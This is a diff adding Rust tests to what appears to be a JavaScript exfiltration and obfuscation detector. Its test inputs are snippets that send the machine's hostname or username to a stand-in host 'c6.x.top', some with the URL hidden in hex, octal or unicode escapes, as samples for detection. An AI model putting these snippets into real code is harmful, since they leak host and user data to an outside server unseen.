@@ -2278,3 +2278,79 @@ fn code_hidden_in_downloaded_image_bits_is_code_from_the_network() {
         f.dynamic_code
     );
 }
+
+/// A variable declared bare and assigned once (`var x; x = require("os")`, bundlers' lazy
+/// module inits) and a name a script assigns without declaring it mean their one value.
+#[test]
+fn variables_assigned_once_and_undeclared_names_keep_their_value() {
+    for src in [
+        "var o; o = require('os'); require('https').get('https://c6.x.top/?h=' + o.hostname());",
+        "o = require('os'); require('https').get('https://c6.x.top/?h=' + o.hostname());",
+        "function f() { h = require('os').hostname(); } f(); require('https').get('https://c6.x.top/?h=' + h);",
+        "let get; get = () => require('os').hostname(); fetch('https://c6.x.top/', { method: 'POST', body: get() });",
+    ] {
+        let f = run(src);
+        assert_eq!(f.flows.len(), 1, "{src}\n{:#?}", f.flows);
+        assert!(f.flows[0].kinds.contains(DataKind::Hostname), "{src}");
+        assert_eq!(f.flows[0].endpoints, vec!["c6.x.top".to_string()], "{src}");
+    }
+    // Two values, or a loop's: the variable is no single module.
+    for src in [
+        "var o; o = require('os'); o = require('path'); require('https').get('https://c6.x.top/?h=' + o.hostname());",
+        "o = require('os'); for (o of [require('path')]) {} require('https').get('https://c6.x.top/?h=' + o.hostname());",
+        "let o; for (o in require('os')) {} require('https').get('https://c6.x.top/?h=' + o.hostname());",
+    ] {
+        let f = run(src);
+        assert!(f.flows.is_empty(), "{src}\n{:#?}", f.flows);
+    }
+    // An assigned host global keeps the host's meaning.
+    let f = run("process = process || {}; require('https').get('https://c6.x.top/?h=' + require('os').hostname() + process.env.USER);");
+    assert!(
+        f.flows[0].kinds.contains(DataKind::Username),
+        "{:#?}",
+        f.flows
+    );
+}
+
+/// Text written as escapes it does not need hides it: hex, octal (sloppy scripts) and unicode
+/// escapes of printable ASCII. Escaped non-ASCII letters, control characters and a stray
+/// `\x20` are how minifiers and people write ordinary strings.
+#[test]
+fn strings_written_as_escapes_are_hidden() {
+    for (src, technique) in [
+        (
+            r#"var u = "\x68\x74\x74\x70\x73\x3a\x2f\x2f\x63\x36\x2e\x78\x2e\x74\x6f\x70\x2f\x61";"#,
+            "hex escapes",
+        ),
+        (
+            r#"var u = "\150\164\164\160\163\72\57\57\143\66\56\170\56\164\157\160\57\141";"#,
+            "octal escapes",
+        ),
+        (
+            r#"var u = '\u0068\u0074\u0074\u0070\u0073\u003a\u002f\u002f\u0063\u0036\u002e\u0078\u002e\u0074\u006f\u0070';"#,
+            "unicode escapes",
+        ),
+    ] {
+        let f = run(src);
+        assert_eq!(f.obfuscations.len(), 1, "{src}\n{:#?}", f.obfuscations);
+        assert_eq!(f.obfuscations[0].technique, technique);
+        assert!(f.obfuscations[0].decoded.starts_with("https://c6.x.top"));
+        assert!(
+            f.obfuscations[0].provenance.ends_with("literal at 1:9"),
+            "{}",
+            f.obfuscations[0].provenance
+        );
+        assert!(f
+            .endpoints
+            .iter()
+            .any(|e| e.host == "c6.x.top" && e.encodings == vec![technique.to_string()]));
+    }
+    for src in [
+        r#"var s = "caf\u00e9 \u00e0 la cr\u00e8me \u2014 https://example.com/docs";"#,
+        r#"var s = "see\x20https://example.com/docs for more";"#,
+        r#"var nul = "\x00\x01\x02\x03\x04\x05";"#,
+        r#"var plain = "\x68\x65\x6c\x6c\x6f";"#,
+    ] {
+        assert!(run(src).obfuscations.is_empty(), "{src}");
+    }
+}
